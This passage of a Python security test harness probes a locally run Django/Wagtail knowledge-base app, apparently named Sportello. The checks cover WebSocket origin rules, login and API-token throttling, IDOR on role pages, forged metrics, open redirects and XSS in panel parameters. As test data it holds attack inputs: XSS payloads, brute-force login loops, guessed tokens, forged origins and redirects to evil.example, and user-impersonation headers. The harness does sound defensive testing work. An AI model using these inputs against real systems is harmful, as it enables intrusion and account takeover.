        cookie = "; ".join(f"{k}={v}" for k, v in browser.cookies.items())
        url = self.base.replace("http://", "ws://") + "/ws/"
        host = self.base.split("://")[1]
        good_origin = f"https://{host}"

        async def session(origin, frames):
            try:
                async with websockets.connect(url, origin=origin, additional_headers={
                        "Cookie": cookie, "X-Forwarded-Proto": "https", "X-Forwarded-For": browser.address}, open_timeout=10) as socket:
                    answers = []
                    for frame in frames:
                        await socket.send(frame)
                        try:
                            answers.append(await asyncio.wait_for(socket.recv(), 3))
                        except asyncio.TimeoutError:
                            answers.append(None)
                    await socket.send(json.dumps({"type": "ping"}))
                    return "open", answers
            except websockets.exceptions.InvalidStatus as error:
                return f"refused {error.response.status_code}", []
            except websockets.exceptions.ConnectionClosed as error:
                return f"closed {error.rcvd.code if error.rcvd else 'without close frame'}", []

        nested = "[" * 100_000 + "]" * 100_000
        state, answers = asyncio.run(session(good_origin, [b"\x00\xff\xfe binary", nested, "not json", json.dumps({"type": "x" * 10_000})]))
        errors = [a for a in answers if a and '"error"' in a]
        self.report("9 WebSocket: binary and nested frames answered with an error, socket kept", state == "open" and len(errors) == 4,
                    f"{state}, answers {[a[:40] if a else a for a in answers]}")
        refused = {}
        for origin in (f"http://{host}", f"https://{host.split(':')[0]}:1{host.split(':')[1]}", "https://evil.example",
                       f"https://{host}.evil.example", "null"):
            refused[origin] = asyncio.run(session(origin, []))[0]
        self.report("9 WebSocket: other scheme, port or host refused", all(s.startswith("refused") for s in refused.values()),
                    json.dumps(refused))

    # 10. Search health -------------------------------------------------------------------------------------

    def check_search_health(self):
        statuses = {role: self.as_(role).get("/search/health/").status_code for role in ("csr", "owner", "lead", "expert", "admin")}
        self.report("10 /search/health/ for administrators only", all(v == 403 for r, v in statuses.items() if r != "admin") and statuses["admin"] == 200,
                    json.dumps(statuses))

    # 11. Throttling of logins and tokens ----------------------------------------------------------------------

    def check_login_throttling(self):
        outcomes = {}
        for number, page in enumerate(("/accounts/login/", "/admin/login/")):
            browser = Browser(self.base, address=ATTACKER_ADDRESS.format(10 + number))
            for _ in range(50):
                browser.log_in("attacco.bersaglio", "wrong-password", page=page)
            final = browser.log_in("attacco.bersaglio", PASSWORD, page=page)
            outcomes[page] = (final.status_code, "sessionid" in browser.cookies)
            import django

            django.setup()
            from axes.utils import reset

            reset(username="attacco.bersaglio")
        # Guessing API tokens from one address.
        guesser = Browser(self.base, address=ATTACKER_ADDRESS.format(20))
        statuses = [guesser.get("/api/v1/crises", headers={"Authorization": f"Bearer spt_{secrets.token_urlsafe(32)}"}).status_code
                    for _ in range(60)]
        good = guesser.get("/api/v1/crises", headers={"Authorization": f"Bearer {self.ids['csr_token']}"}).status_code
        outcomes["api token guesses"] = (sorted(set(statuses)), good)
        held = all(code != 302 and not logged for code, logged in [outcomes["/accounts/login/"], outcomes["/admin/login/"]])
        self.report("11 login throttling on both login pages: 50 wrong then the right password is refused", held,
                    json.dumps({k: v for k, v in outcomes.items() if k.startswith("/")}))
        self.report("11 API token guessing is throttled per address", 429 in statuses, f"statuses {sorted(set(statuses))}, then a valid token: {good}")

    # 12. Forged metrics and spam ------------------------------------------------------------------------------

    def check_forged_metrics(self):
        import django

        django.setup()
        from django.db import connections

        from search.models import SearchClick, SearchLog

        csr = self.as_("csr")
        csr.get("/search/?q=fibra")
        log = SearchLog.objects.filter(user__username="operatore", query="fibra").order_by("-pk").first()
        shown = log.shown or []
        restricted = self.ids["restricted_article"]
        before = SearchClick.objects.count()
        csr.get(f"/search/open/?search={log.pk}&type=answer&id={restricted}&next=/")
        forged = SearchClick.objects.count() - before
        counted = 0
        if shown:
            kind, pk = shown[0]
            before = SearchClick.objects.count()
            for _ in range(20):
                csr.get(f"/search/open/?search={log.pk}&type={kind}&id={pk}&next=/")
            counted = SearchClick.objects.count() - before
        other = SearchLog.objects.exclude(user__username="operatore").first()
        stolen = 0
        if other and other.shown:
            before = SearchClick.objects.count()
            kind, pk = other.shown[0]
            csr.get(f"/search/open/?search={other.pk}&type={kind}&id={pk}&next=/")
            stolen = SearchClick.objects.count() - before
        connections.close_all()
        self.report("12 /search/open/ counts only what the search showed, once, and only for its own searcher",
                    forged == 0 and counted <= 1 and stolen == 0,
                    f"forged result counted {forged}, 20 opens of one shown result counted {counted}, another's search {stolen}")
        statuses = [csr.post(f"/collaboration/report/{self.ids['article']}/", {"kind": "wrong", "note": f"spam {n}"}).status_code for n in range(15)]
        from collaboration.models import ArticleReport

        count = ArticleReport.objects.filter(reporter__username="operatore", article_id=self.ids["article"], status="open").count() \
            if hasattr(ArticleReport, "status") else ArticleReport.objects.filter(reporter__username="operatore", article_id=self.ids["article"]).count()
        connections.close_all()
        self.report("12 article reports de-duplicated and rate limited", count <= 2, f"15 reports stored {count}, statuses {sorted(set(statuses))}")
        # The redirect after an open stays on the site.
        redirect = csr.get(f"/search/open/?search={log.pk}&type=answer&id=1&next=https://evil.example/")
        self.report("12 /search/open/ never redirects off-site", "evil.example" not in redirect.headers.get("location", ""),
                    redirect.headers.get("location", ""))

    # 13. Merge form oracle -----------------------------------------------------------------------------------

    def check_merge_oracle(self):
        lead = self.as_("lead")  # moderates the team and everyone spaces, not the experts' space
        target = self.ids["public_question"]
        answers = {}
        for name, original in (("private", self.ids["private_question"]), ("missing", 99_999_999)):
            response = lead.post(f"/collaboration/questions/{target}/duplicate/", {"original": original, "merge": "on"})
            body = re.sub(r'value="[^"]*"', "", response.text)
            body = re.sub(r"\b" + str(original) + r"\b", "N", body)
            answers[name] = (response.status_code, re.sub(r"csrf[^\"]*", "", body))
        same = answers["private"][0] == answers["missing"][0] and answers["private"][1] == answers["missing"][1]
        self.report("13 the duplicate form answers the same for a private and a missing question", same,
                    f"statuses {answers['private'][0]} / {answers['missing'][0]}")

    # New since the issue: API v1, panel, mentions, records, approvals, verify, notifications, IDOR ------------

    def check_api_rights(self):
        ids = self.ids
        csr_token = {"Authorization": f"Bearer {ids['csr_token']}"}
        api = Browser(self.base, address=ATTACKER_ADDRESS.format(30))
        problems = []
        restricted = ids["restricted_article"]
        checks = [
            ("GET", f"/api/v1/articles/{restricted}", None, 404),
            ("POST", "/api/v1/usage", {"contact_id": "CASE-1", "channel": "chat", "article": restricted}, 404),
            ("POST", "/api/v1/feedback", {"article": restricted, "helpful": False, "reason": "other"}, 404),
        ]
        if ids["restricted_external_id"]:
            checks.append(("GET", f"/api/v1/articles/external/{ids['restricted_external_id']}", None, 404))
        for method, url, body, expected in checks:
            response = api.request(method, url, json=body, headers={**csr_token, "Origin": ""}) if body else api.get(url, headers=csr_token)
            if response.status_code != expected:
                problems.append(f"{method} {url} as a CSR: {response.status_code}")
        search = api.get(f"/api/v1/search?q={quote(ids['restricted_title'])}", headers=csr_token).json()
        if any(hit.get("id") == restricted for hit in search.get("results", [])):
            problems.append("restricted article in a CSR's API search")
        search = api.get("/api/v1/search?q=zanzibar%20riservato", headers=csr_token).json()
        if any("Segreto interno" in (hit.get("title") or "") for hit in search.get("results", [])):
            problems.append("private question in a CSR's API search")
        assist = api.request("POST", "/api/v1/assist", json={"text": "segreto interno procedura riservata zanzibar esperti", "channel": "chat"},
                             headers=csr_token)
        if "Segreto interno" in assist.text or ids["restricted_title"] in assist.text:
            problems.append("assist shows private content to a CSR")
        named = api.get("/api/v1/crises", headers={**csr_token, "X-Sportello-User": "admin"}).status_code
        if named != 403:
            problems.append(f"a personal token naming another user: {named}")
        service = {"Authorization": f"Bearer {ids['service_token']}"}
        as_csr = api.get(f"/api/v1/articles/{restricted}", headers={**service, "X-Sportello-User": "operatore"}).status_code
        if as_csr != 404:
            problems.append(f"a service token acting for a CSR reads the restricted article: {as_csr}")
        as_admin = api.get(f"/api/v1/articles/{restricted}", headers={**service, "X-Sportello-User": "admin"}).status_code
        if as_admin != 403:
            problems.append(f"a service token acting for a superuser: {as_admin}")
        in_url = api.get(f"/api/v1/crises?access_token={ids['csr_token']}").status_code
        if in_url != 401:
            problems.append(f"token in the URL: {in_url}")
        cross_site = self.as_("csr").request("POST", "/api/v1/usage", json={"contact_id": "CASE-9", "channel": "chat", "article": ids["article"]},
                                             headers={"Origin": "https://evil.example", "Referer": "https://evil.example/", "X-CSRFToken": ""})
        if cross_site.status_code < 400:
            problems.append(f"cross-site session POST to the API: {cross_site.status_code}")
        self.report("API v1: rights, act-for, tokens only in headers, CSRF on the session (IDOR)", not problems, "; ".join(problems))

    def check_collaboration_idor(self):
        ids = self.ids
        csr = self.as_("csr")
        private = ids["private_question"]
        problems = []
        for method, url, data in [
            ("GET", f"/collaboration/questions/{private}/", None),
            ("GET", f"/collaboration/questions/{private}/edit/", None),
            ("POST", f"/collaboration/questions/{private}/", {"body": "intruso"}),
            ("POST", f"/collaboration/questions/{private}/comment/", {"body": "intruso"}),
            ("POST", f"/collaboration/questions/{private}/follow/", {}),
            ("POST", f"/collaboration/vote/question/{private}/", {"value": "1"}),
            ("GET", f"/collaboration/mentions/?q=e&space={ids['private_space']}", None),
            ("GET", "/collaboration/spaces/esperti-back-office/", None),
            ("POST", "/collaboration/preview/", {"text": f"@esperto [x](/collaboration/questions/{private}/)"}),
        ]:
            response = csr.request(method, url, data=data)
            leaked = "Segreto interno" in response.text or "riservato" in response.text
            if response.status_code not in (403, 404) and not url.startswith("/collaboration/preview/") or leaked:
                problems.append(f"{method} {url}: {response.status_code}{' leaks' if leaked else ''}")
        for method, url in [("GET", "/search/?q=segreto%20interno%20riservato"), ("GET", "/api/search/suggest?q=segreto%20inter"),
                            ("GET", "/api/search/similar?q=segreto%20interno%20procedura%20riservata"),
                            ("GET", "/collaboration/?q=segreto%20interno"), ("GET", "/notifications/")]:
            if "Segreto interno" in csr.request(method, url).text:
                problems.append(f"{url} shows the private question")
        # "Did you mean" must not correct a typo into a word only private content holds.
        for url in ("/search/?q=procedura%20ornitorinko", "/api/search?q=procedura%20ornitorinko"):
            if "ornitorinco" in csr.get(url).text:
                problems.append(f"{url} suggests a word only the private question holds")
        title = self.ids["restricted_title"]
        for url in (f"/search/?q={quote(title)}", f"/api/search?q={quote(title)}", f"/api/search/suggest?q={quote(title[:12])}",
                    f"/api/search/similar?q={quote(title)}"):
            response = csr.get(url)
            # The query echoes the title: the article itself is what must not be there (its link).
            if self.ids["restricted_url"] in response.text:
                problems.append(f"{url} shows the restricted article")
        self.report("private space: every URL and search as a CSR (IDOR)", not problems, "; ".join(problems))

    def check_role_idor(self):
        ids = self.ids
        csr = self.as_("csr")
        problems = []
        for method, url, data, allowed in [
            ("POST", f"/kb/articles/{ids['article']}/verify/", {"next": "/"}, (403, 404)),
            ("GET", "/kb/approvals/", None, (403,)),
            ("GET", "/kb/approvals/1/", None, (403, 404)),
            ("POST", "/kb/approvals/1/", {"action": "approve"}, (403, 404)),
            ("GET", f"/kb/crises/{ids['crisis']}/receipts/", None, (403,)),
            ("GET", "/insights/content-gaps/", None, (403,)),
            ("GET", "/collaboration/queue/", None, (403,)),
            ("GET", "/collaboration/reports/", None, (403,)),
            ("POST", f"/collaboration/questions/{ids['public_question']}/close/", {"reason": "x"}, (403, 404)),
            ("POST", f"/collaboration/answers/{ids.get('hostile_answer', 1)}/certify/", {}, (403, 404)),
            ("POST", "/collaboration/reviews/1/sign-off/", {"decision": "approve"}, (403, 404)),
            ("GET", "/admin/", None, (302, 403)),
            ("GET", "/django-admin/", None, (302, 403)),
        ]:
            response = csr.request(method, url, data=data)
            if response.status_code not in allowed:
                problems.append(f"{method} {url}: {response.status_code}")
        import django

        django.setup()
        from django.db import connections

        from collaboration.models import BestPractice, MarketNeed

        need = MarketNeed.objects.exclude(author__username="operatore").exclude(status="accepted").first()
        practice = BestPractice.objects.exclude(author__username="operatore").first()
        self.promoted_before = practice.promoted_page_id if practice else None
        connections.close_all()
        for method, url, data in ([("POST", f"/collaboration/needs/{need.pk}/status/", {"status": "accepted", "comment": "ok"})] if need else []) + \
                ([("POST", f"/collaboration/practices/{practice.pk}/promote/", {}),
                  ("POST", f"/collaboration/practices/{practice.pk}/edit/", {"title": "preso in ostaggio", "body": "x"}),
                  ("POST", f"/collaboration/questions/{ids['public_question']}/move/", {"space": ids["private_space"]})] if practice else []):
            response = csr.request(method, url, data=data)
            if response.status_code not in (403, 404) and not (response.status_code == 302 and "/admin/" not in response.headers.get("location", "")
                                                               and self.unchanged(url)):
                problems.append(f"{method} {url}: {response.status_code} {response.headers.get('location', '')}")
        if ids.get("notification_of_other"):
            response = csr.get(f"/notifications/{ids['notification_of_other']}/open/")
            if response.status_code != 404:
                problems.append(f"another's notification: {response.status_code}")
        # A content owner of the offers reaches no other section's editor, and cannot publish without approval.
        import django

        django.setup()
        from django.db import connections

        from kb.models import KnownDefectPage, OfferPage

        defect, offer = KnownDefectPage.objects.live().first(), OfferPage.objects.live().first()
        connections.close_all()
        owner = self.as_("owner")
        edit = owner.get(f"/admin/pages/{defect.pk}/edit/")
        if edit.status_code == 200:
            problems.append(f"the offers' owner opens a defect's editor: {edit.status_code}")
        page = owner.get(f"/admin/pages/{offer.pk}/edit/")
        if page.status_code == 200 and 'name="action-publish"' in page.text:
            problems.append("the offers' owner is offered Publish")
        other = Browser(self.base)
        other.log_in("operatore2")
        token_page = csr.get("/settings/tokens/")
        token_ids = re.findall(r"/settings/tokens/(\d+)/", token_page.text)
        for pk in token_ids:
            if other.post(f"/settings/tokens/{pk}/revoke/", {}).status_code not in (403, 404):
                problems.append(f"another user revoked token {pk}")
        self.report("role pages and objects refused to a CSR (approvals, verify, receipts, queues, notifications, tokens)", not problems,
                    "; ".join(problems))

    def check_dashboards_respect_rights(self):
        """An expert reads, opens from search and reports the experts-only article; the dashboards of a team
        lead (who may not read it) must not show its title, nor the private question's."""
        import django

        django.setup()
        from django.db import connections

        from search.models import SearchLog

        expert = self.as_("expert")
        title = self.ids["restricted_title"]
        expert.get("/search/", params={"q": title})
        log = SearchLog.objects.filter(user__username="esperto").order_by("-pk").first()
        for kind, pk in (log.shown or []) if log else []:
            expert.get(f"/search/open/?search={log.pk}&type={kind}&id={pk}&next=/")
        article = expert.get(f"/api/search?q={quote(title)}").json()
        for hit in article.get("results", []):
            if hit.get("id") == self.ids["restricted_article"]:
                expert.get(hit["url"])
        expert.post(f"/collaboration/report/{self.ids['restricted_article']}/", {"kind": "outdated", "note": "da rivedere"})
        connections.close_all()
        problems = []
        for role in ("csr", "lead"):
            browser = self.as_(role)
            for url in ["/insights/knowledge/", "/insights/use/", "/insights/content-gaps/", "/insights/questions/",
                        "/insights/emerging/", "/notifications/", "/", "/collaboration/"]:
                response = browser.get(url)
                if response.status_code == 200 and (html.escape(title) in response.text or title in response.text):
                    problems.append(f"{role} {url} shows the restricted article's title")
                if response.status_code == 200 and "Segreto interno" in response.text:
                    problems.append(f"{role} {url} shows the private question")
                for export in re.findall(r"\?export=([\w-]+)", response.text):
                    csv_text = browser.get(f"{url}?export={export}").text
                    if title in csv_text or "Segreto interno" in csv_text:
                        problems.append(f"{role} {url} export {export} shows restricted content")
        self.report("dashboards and their exports show only what the viewer may read", not problems, "; ".join(sorted(set(problems))))

    def unchanged(self, url):
        """After a refused post that redirects with a message: the object kept its state (need still open,
        practice not promoted nor retitled)."""
        import django

        django.setup()
        from django.db import connections

        from collaboration.models import BestPractice, MarketNeed, Question

        number = int(re.search(r"/(\d+)/", url).group(1))
        if "/needs/" in url:
            same = MarketNeed.objects.get(pk=number).status != "accepted"
        elif "/move/" in url:
            same = Question.objects.get(pk=number).space_id == self.ids["public_space"]
        else:
            practice = BestPractice.objects.get(pk=number)
            same = practice.title != "preso in ostaggio" and practice.promoted_page_id == self.promoted_before
        connections.close_all()
        return same

    def check_panel(self):
        browser = self.as_("csr")
        page = browser.get("/panel/?message=%3Cimg%20src%3Dx%20onerror%3Dsptxss(1)%3E&customer=%3Cscript%3Esptxss(2)%3C/script%3E"
                           "&contact=%22%3E%3Csvg%20onload%3Dsptxss(3)%3E")
        origins = re.search(r'data-embed-origins="([^"]*)"', page.text)
        script = (ROOT / "static" / "js" / "panel.js").read_text()
        checks_origin = "allowed.indexOf(event.origin) === -1" in script and "event.source !== window.parent" in script
        self.report("panel: reflected parameters inert, postMessage only from the embed origins",
                    not injections(page.text) and bool(origins) and origins.group(1) == "https://desktop.example.com" and checks_origin,
                    f"status {page.status_code}, origins {origins.group(1) if origins else None}")

    def check_fallback(self):
        """Search answered by the database fallback (Elasticsearch stopped): the same checks."""
        self.stack.stop_elasticsearch()
        time.sleep(2)
        data = self.as_("csr").get("/api/search?q=zanzibar").json()
        self.report("fallback engaged with Elasticsearch down (setup)", bool(data.get("message")), f"message {data.get('message')!r}")
        self.check_rendering("database fallback")
        self.check_api_plain_text("database fallback")

    def run(self, only):
        steps = [
            ("content", self.write_hostile_content),
            ("render", lambda: self.check_rendering("Elasticsearch")),
            ("api-text", lambda: self.check_api_plain_text("Elasticsearch")),
            ("admin", self.check_wagtail_admin), ("csp", self.check_csp_policy), ("panel", self.check_panel),
            ("health", self.check_search_health), ("merge", self.check_merge_oracle), ("api", self.check_api_rights),
            ("idor", self.check_collaboration_idor), ("dashboards", self.check_dashboards_respect_rights), ("roles", self.check_role_idor), ("metrics", self.check_forged_metrics),
            ("csv", self.check_csv_and_privacy), ("dates", self.check_english_admin_dates), ("websocket", self.check_websocket),
            ("throttle", self.check_login_throttling), ("urls", self.check_hostile_urls), ("starve", self.check_starved_search),
            ("shard", self.check_huge_question), ("fallback", self.check_fallback),
        ]
        for name, step in steps:
            if only and name not in only and name != "content":
                continue
            try:
                step()
            except Exception as error:  # one broken step must not hide the others
                traceback.print_exc()
                self.report(f"step {name} could not run", False, f"{type(error).__name__}: {error}")


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--port", type=int, default=8066)
    parser.add_argument("--pg-port", type=int, default=5446)
    parser.add_argument("--redis-port", type=int, default=6406)
    parser.add_argument("--es-port", type=int, default=9266)
    parser.add_argument("--only", nargs="*", default=[])
    parser.add_argument("--keep", action="store_true")
    args = parser.parse_args()
    workdir = Path(tempfile.mkdtemp(prefix="sportello-attack-"))
    stack = Stack(args, workdir)
    try:
        stack.start()
        ids = seed(workdir)
        stack.serve()
        attack = Attack(f"http://127.0.0.1:{args.port}", ids, stack, workdir, args)
        attack.run(set(args.only))
        opened = [item for item, held, _ in attack.results if not held]
        print(f"\n{len(attack.results) - len(opened)} held, {len(opened)} open (logs in {workdir})")
        if args.keep:
            print("services kept running: Ctrl+C stops them", flush=True)
            signal.pause()
        return 1 if opened else 0
    finally:
        stack.stop()


if __name__ == "__main__":
    sys.exit(main())
